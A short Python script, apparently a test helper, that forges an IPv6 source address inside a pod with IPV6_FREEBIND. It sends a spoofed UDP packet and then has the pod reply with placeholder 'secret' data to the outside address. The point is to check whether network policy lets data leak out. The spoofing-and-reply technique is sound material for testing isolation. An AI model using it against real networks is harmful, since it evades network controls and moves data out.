"""Begins a flow inside of the pod that says to come from outside, and answers it: forge.py OWN OUTSIDE PORT."""

import json
import socket
import sys

from tried import tried

IPV6_FREEBIND = 78
PATIENCE = 5


def answer(own, outside, port):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as answering:
        answering.bind((own, port))
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as forged:
            forged.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
            forged.bind((outside, port))
            # That it was refused is not the end: the answer is the attack.
            output = tried(forged.sendto, b"forged", (own, port))
            # Where it was let through, it is answered once it is there.
            if output.isdigit():
                answering.settimeout(PATIENCE)
                tried(answering.recv, 64)
        answering.sendto(b"secret" * 8, (outside, port))
    return output


own, outside, port = sys.argv[1:]
print(json.dumps(tried(answer, own, outside, int(port))))
